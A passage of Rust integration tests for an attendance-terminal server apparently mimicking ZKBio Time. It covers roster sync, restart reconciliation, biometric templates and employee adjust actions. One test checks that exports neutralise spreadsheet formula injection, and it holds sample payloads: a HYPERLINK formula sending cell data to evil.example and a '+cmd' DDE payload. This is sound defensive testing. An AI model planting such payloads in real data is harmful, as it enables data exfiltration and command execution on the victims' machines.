        "DATA UPDATE USERINFO PIN=0042\tName=Ann Lee\tPri=0\tPasswd=4321\tCard=123456\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard="
    );
    assert!(command_lines(&office.get(&poll(&office)).await.text()).is_empty());
    // The device confirms: succeeded, and a resync plans nothing new for it.
    let result = format!("ID={id}&Return=0&CMD=DATA\n");
    assert_eq!(gate.post(&format!("/iclock/devicecmd?SN={}", gate.sn), result.as_bytes()).await.text(), "OK");
    let commands = api.get(&format!("/api/v1/devices/{}/commands", gate.sn)).await;
    assert_eq!(commands["data"][0]["state"], "succeeded", "{commands}");
    let emp = ann["id"].as_i64().unwrap();
    assert_eq!(
        api.post_json("/personnel/api/employees/resync_to_device/", &json!({ "employees": [emp] })).await.0,
        200
    );
    assert!(command_lines(&gate.get(&poll(&gate)).await.text()).is_empty(), "nothing re-sent after success");

    // Two edits before the office polls: one command, the latest (the queued one superseded).
    assert_eq!(api.patch_json(&format!("/personnel/api/employees/{emp}/"), &json!({ "area": [hq] })).await.0, 200);
    assert_eq!(
        api.patch_json(&format!("/personnel/api/employees/{emp}/"), &json!({ "first_name": "Annette" })).await.0,
        200
    );
    let lines = command_lines(&office.get(&poll(&office)).await.text());
    assert_eq!(lines.len(), 1, "{lines:?}");
    assert!(lines[0].1.starts_with("DATA UPDATE USERINFO PIN=0042\tName=Annette Lee\t"), "{lines:?}");
    // Moved out of the yard: the gate removes her.
    let gate_lines = command_lines(&gate.get(&poll(&gate)).await.text());
    assert_eq!(gate_lines.iter().map(|(_, l)| l.as_str()).collect::<Vec<_>>(), ["DATA DELETE USERINFO PIN=0042"]);

    // Resigned: the office removes her too; her punches stay.
    assert_eq!(office.attlog(b"0042\t2026-11-20 08:00:00\t0\t1\t0\t0\t0\n").await.text(), "OK: 1");
    let (status, _) = api
        .post_json(
            "/personnel/api/employees/adjust_resign/",
            &json!({ "employees": [emp], "resign_date": "2026-12-01", "resign_type": 1 }),
        )
        .await;
    assert_eq!(status, 200);
    let lines = command_lines(&office.get(&poll(&office)).await.text());
    assert_eq!(lines.iter().map(|(_, l)| l.as_str()).collect::<Vec<_>>(), ["DATA DELETE USERINFO PIN=0042"]);
    assert_eq!(api.transactions("emp_code=0042").await.len(), 1);

    // A terminal seen for the first time is in area 1 ("Not Authorized") and gets nobody; once
    // assigned to the yard, it gets the yard's roster.
    create(
        &api,
        "/personnel/api/employees/",
        json!({ "emp_code": "7", "first_name": "Bo", "department": 1, "area": [yard] }),
    )
    .await;
    create(
        &api,
        "/personnel/api/employees/",
        json!({ "emp_code": "8", "first_name": "Cy", "department": 1, "area": [1] }),
    )
    .await;
    let newcomer = Device { server: &server, sn: "RSN0012".into() };
    newcomer.handshake().await;
    assert!(command_lines(&newcomer.get(&poll(&newcomer)).await.text()).is_empty());
    let id = api.get("/iclock/api/terminals/?sn=RSN0012").await["data"][0]["id"].as_i64().unwrap();
    assert_eq!(api.patch_json(&format!("/iclock/api/terminals/{id}/"), &json!({ "area": yard })).await.0, 200);
    let lines = command_lines(&newcomer.get(&poll(&newcomer)).await.text());
    assert_eq!(
        lines.iter().map(|(_, l)| l.split('\t').next().unwrap()).collect::<Vec<_>>(),
        ["DATA UPDATE USERINFO PIN=7"]
    );
}

/// A roster change is committed before its commands are queued (two transactions). If the
/// process dies between the two, the reconcile pass at the next start still gets the change to
/// the terminals, although none of them went offline or re-registered.
#[tokio::test]
async fn a_roster_change_left_without_commands_reaches_the_terminal_after_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = Server::start(dir.path(), &[]);
    let api = Api::login(&server).await;
    let gate = Device { server: &server, sn: "RSN0020".into() };
    gate.handshake().await;
    let yard = create(&api, "/personnel/api/areas/", json!({ "area_code": "YARD", "area_name": "Yard" })).await["id"]
        .as_i64()
        .unwrap();
    let id = api.get("/iclock/api/terminals/?sn=RSN0020").await["data"][0]["id"].as_i64().unwrap();
    assert_eq!(api.patch_json(&format!("/iclock/api/terminals/{id}/"), &json!({ "area": yard })).await.0, 200);
    create(
        &api,
        "/personnel/api/employees/",
        json!({ "emp_code": "0077", "first_name": "Ann", "last_name": "Lee", "department": 1, "area": [yard] }),
    )
    .await;
    let poll = format!("/iclock/getrequest?SN={}", gate.sn);
    let lines = command_lines(&gate.get(&poll).await.text());
    assert_eq!(lines.len(), 1, "{lines:?}");
    let result = format!("ID={}&Return=0&CMD=DATA\n", lines[0].0);
    assert_eq!(gate.post(&format!("/iclock/devicecmd?SN={}", gate.sn), result.as_bytes()).await.text(), "OK");
    server.stop();

    // The first transaction of a rename, committed; the process gone before the second.
    let changed = server.db().execute("UPDATE employees SET first_name = 'Annie' WHERE emp_code = '0077'", &[]).await;
    assert_eq!(changed, 1);

    let server = Server::start(dir.path(), &[]);
    let gate = Device { server: &server, sn: "RSN0020".into() };
    let mut lines = Vec::new();
    eventually("a poll hands out the renamed user", async || {
        lines = command_lines(&gate.get(&poll).await.text());
        !lines.is_empty()
    })
    .await;
    assert_eq!(lines.len(), 1, "the renamed user reaches the terminal: {lines:?}");
    assert!(lines[0].1.starts_with("DATA UPDATE USERINFO PIN=0077\tName=Annie Lee\t"), "{lines:?}");
    // Nothing else is planned twice: the next poll is empty.
    assert!(command_lines(&gate.get(&poll).await.text()).is_empty());
}

/// `/iclock/api/biodatas/`: templates the terminals reported, one record per slot (the newest
/// copy), with the employee as ZKBio Time writes it; and the `adjust_department`,
/// `adjust_position` and `adjust_emp_type` actions.
#[tokio::test]
async fn biodatas_list_templates_and_adjust_actions_set_organisation_fields() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::in_process(dir.path(), &[("ADMS_TEST_CLOCK", "true")]).await;
    let api = Api::login(&server).await;
    let (_, dept, pos) = seed(&api).await;
    let gate = Device { server: &server, sn: "RSN0030".into() };
    let office = Device { server: &server, sn: "RSN0031".into() };
    gate.handshake().await;
    office.handshake().await;
    let template = |pin: &str, kind: u8, tmp: &str| {
        format!(
            "BIODATA Pin={pin}\tNo=0\tIndex=0\tValid=1\tDuress=0\tType={kind}\tMajorVer=58\tMinorVer=10\tFormat=0\tTmp={tmp}\n"
        )
    };
    async fn upload(d: &Device<'_>, body: String) -> String {
        d.post(&format!("/iclock/cdata?SN={}&table=OPERLOG&OpStamp=1", d.sn), body.as_bytes()).await.text()
    }
    assert!(upload(&gate, template("0042", 9, "AAAA") + &template("7", 1, "BBBB")).await.starts_with("OK"));
    // The same face slot re-enrolled on the office terminal a second later: the newer copy is the
    // record.
    api.advance_clock(1).await;
    assert!(upload(&office, template("0042", 9, "CCCC")).await.starts_with("OK"));

    let all = api.get("/iclock/api/biodatas/").await;
    assert_eq!(all["count"], 2, "{all}");
    let face = all["data"].as_array().unwrap().iter().find(|r| r["emp_code"] == "0042").unwrap().clone();
    assert_eq!(face["employee"], "0042 Ann", "emp_code and first name from the roster");
    assert_eq!(face["bio_type"], "Visible Light Face");
    assert_eq!(
        (face["bio_no"].as_i64(), face["bio_index"].as_i64(), face["major_ver"].as_i64()),
        (Some(0), Some(0), Some(58))
    );
    assert_eq!(face["bio_tmp"], "CCCC");
    assert_eq!(face["terminal_sn"], "RSN0031");
    let finger = api.get("/iclock/api/biodatas/?emp_code=7").await;
    assert_eq!(finger["count"], 1);
    assert_eq!(finger["data"][0]["bio_type"], "Fingerprint");
    assert_eq!(finger["data"][0]["employee"], "7", "a PIN the roster does not know");
    assert_eq!(api.get("/iclock/api/biodatas/?bio_type=9").await["count"], 1);
    let id = face["id"].as_i64().unwrap();
    let (raw, detail) = get_raw(&api, &format!("/iclock/api/biodatas/{id}/")).await;
    assert_eq!(detail, face);
    // The record's shape, pinned: every key, in this order (9.x's fields first).
    let shape = [
        "id",
        "employee",
        "emp_code",
        "bio_type",
        "bio_no",
        "bio_index",
        "major_ver",
        "minor_ver",
        "valid",
        "duress",
        "bio_tmp",
        "terminal_sn",
        "update_time",
    ];
    assert_key_order(&raw, &shape);
    assert_eq!(sorted(keys(&detail)), sorted(shape.to_vec()), "no other keys");
    let (raw, _) = get_raw(&api, "/iclock/api/biodatas/").await;
    assert_key_order(&raw, &["count", "next", "previous", "msg", "code", "data"]);
    assert_eq!(api.get_status("/iclock/api/biodatas/999999/").await.0, 404);
    assert_eq!(api.get_status("/iclock/api/biodatas/abc/").await.0, 404);

    // adjust_*: one field on several employees; bad ids refused with DRF's bodies.
    let ann = api.get("/personnel/api/employees/?emp_code=0042").await["data"][0]["id"].as_i64().unwrap();
    let bob = create(
        &api,
        "/personnel/api/employees/",
        json!({ "emp_code": "0043", "first_name": "Bob", "department": 1, "area": [1] }),
    )
    .await["id"]
        .as_i64()
        .unwrap();
    let adjust = |action: &'static str, body: Value| {
        let api = &api;
        async move { api.post_json(&format!("/personnel/api/employees/{action}/"), &body).await }
    };
    let other_dept = create(
        &api,
        "/personnel/api/departments/",
        json!({ "dept_code": "OPS", "dept_name": "Operations" }),
    )
    .await["id"]
        .as_i64()
        .unwrap();
    assert_ne!(other_dept, dept);
    let (status, body) =
        adjust("adjust_department", json!({ "employees": [ann, bob], "department": other_dept })).await;
    assert_eq!((status, body), (200, json!({ "detail": "Success." })));
    let (status, _) = adjust("adjust_position", json!({ "employees": [ann, bob], "position": pos })).await;
    assert_eq!(status, 200);
    let (status, _) = adjust("adjust_emp_type", json!({ "employees": [bob], "emp_type": 2 })).await;
    assert_eq!(status, 200);
    for id in [ann, bob] {
        let e = api.get(&format!("/personnel/api/employees/{id}/")).await;
        assert_eq!(e["department"]["id"], other_dept, "{e}");
        assert_eq!(e["position"]["id"], pos, "{e}");
    }
    assert_eq!(api.get(&format!("/personnel/api/employees/{bob}/")).await["emp_type"], 2);
    let (status, body) = adjust("adjust_department", json!({ "employees": [ann], "department": 999 })).await;
    assert_eq!((status, body), (400, json!({ "department": ["Invalid pk \"999\" - object does not exist."] })));
    let (status, body) = adjust("adjust_position", json!({ "employees": [ann] })).await;
    assert_eq!((status, body), (400, json!({ "position": ["This field is required."] })));
    let (status, _) = adjust("adjust_emp_type", json!({ "employees": [ann], "emp_type": "x" })).await;
    assert_eq!(status, 400);
    let (status, _) = adjust("adjust_department", json!({ "employees": [999999], "department": dept })).await;
    assert_eq!(status, 400);
    assert_eq!(api.get(&format!("/personnel/api/employees/{ann}/")).await["department"]["id"], other_dept, "unchanged");
}

/// Devices are unauthenticated, and what they send (PINs, work codes, serial numbers, user
/// names) lands in the export; a spreadsheet would run any cell starting with `=`, `+`, `-`, `@`
/// as a formula. CSV and TXT cells starting that way get a leading `'` (OWASP); the workbook
/// writes them as string cells, never formulas.
#[tokio::test]
async fn export_cells_that_would_start_a_formula_are_quoted_in_csv_and_txt() {
    const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
    let dir = tempfile::tempdir().unwrap();
    let server = Server::in_process(dir.path(), &[]).await;
    let api = Api::login(&server).await;
    let device = Device { server: &server, sn: "@SUM(1)".into() };
    device.handshake().await;
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let users = format!(
        "USER PIN==1+2\tName={name}\tPri=0\tPasswd=\tCard=\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard=\n\
         USER PIN=-7\tName=+cmd|' /C calc'!A0\tPri=0\tPasswd=\tCard=\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard=\n"
    );
    let path = format!("/iclock/cdata?SN={}&table=OPERLOG&Stamp=1", device.sn);
    assert_eq!(device.post(&path, users.as_bytes()).await.status, 200);
    let punches = "=1+2\t2026-11-20 08:00:00\t0\t1\t-2+3\t0\t0\n\
                   -7\t2026-11-20 09:00:00\t0\t1\t@A1\t0\t0\n\
                   +SUM(A1)\t2026-11-20 10:00:00\t0\t1\t=1*1\t0\t0\n\
                   0042\t2026-11-20 11:00:00\t0\t1\t0\t0\t0\n";
    assert_eq!(device.attlog(punches.as_bytes()).await.text(), "OK: 4");
    let listed = api.transactions("").await;
    assert_eq!(listed.len(), 4, "{listed:?}");
    let formula = listed.iter().find(|t| t["emp_code"] == "=1+2").expect("the =1+2 punch");
    assert_eq!(formula["first_name"], name, "the name reached the roster: {formula}");

    let download = |query: &'static str| {
        let api = &api;
        async move {
            let response = api
                .client
                .get(format!("http://{}/iclock/api/transactions/export/?{query}", api.server_addr))
                .header("Authorization", format!("Token {}", api.token))
                .send()
                .await
                .unwrap();
            assert_eq!(response.status().as_u16(), 200, "{query}");
            response.bytes().await.unwrap().to_vec()
        }
    };
    for (query, delimiter) in [("export_type=csv", b','), ("export_type=txt", b'\t')] {
        let bytes = download(query).await;
        let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(&bytes[..]);
        let header = reader.headers().unwrap().clone();
        let column = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("column {name}"));
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 4, "{query}: {}", String::from_utf8_lossy(&bytes));
        for record in &records {
            for cell in record {
                assert!(!cell.starts_with(FORMULA_STARTS), "{query}: cell {cell:?} would run as a formula");
            }
            assert_eq!(&record[column("terminal_sn")], "'@SUM(1)", "{query}");
        }
        let row = |pin: &str| {
            records
                .iter()
                .find(|r| &r[column("emp_code")] == pin)
                .unwrap_or_else(|| panic!("{query}: no row for {pin}: {records:?}"))
        };
        let first = row("'=1+2");
        assert_eq!((&first[column("first_name")], &first[column("work_code")]), (&*format!("'{name}"), "'-2+3"));
        let second = row("'-7");
        assert_eq!((&second[column("first_name")], &second[column("work_code")]), ("'+cmd|' /C calc'!A0", "'@A1"));
        assert_eq!(&row("'+SUM(A1)")[column("work_code")], "'=1*1", "{query}");
        // Ordinary cells are untouched.
        let plain = row("0042");
        assert_eq!((&plain[column("work_code")], &plain[column("punch_time")]), ("0", "2026-11-20 11:00:00"));
    }

    // The workbook: the same values as string cells, no formula anywhere.
    let bytes = download("export_type=xlsx").await;
    let mut workbook =
        <calamine::Xlsx<_> as calamine::Reader<_>>::new(std::io::Cursor::new(bytes)).expect("a valid xlsx file");
    let formulas = calamine::Reader::worksheet_formula(&mut workbook, "transactions").expect("worksheet");
    assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "{formulas:?}");
    let sheet = calamine::Reader::worksheet_range(&mut workbook, "transactions").expect("worksheet");
    let rows: Vec<Vec<calamine::Data>> = sheet.rows().map(<[calamine::Data]>::to_vec).collect();
    let header: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("column {name}"));
    let row = rows[1..]
        .iter()
        .find(|r| r[column("emp_code")] == calamine::Data::String("=1+2".into()))
        .expect("the =1+2 row, as a string cell");
    assert_eq!(row[column("first_name")], calamine::Data::String(name.into()));
    assert_eq!(row[column("work_code")], calamine::Data::String("-2+3".into()));
}
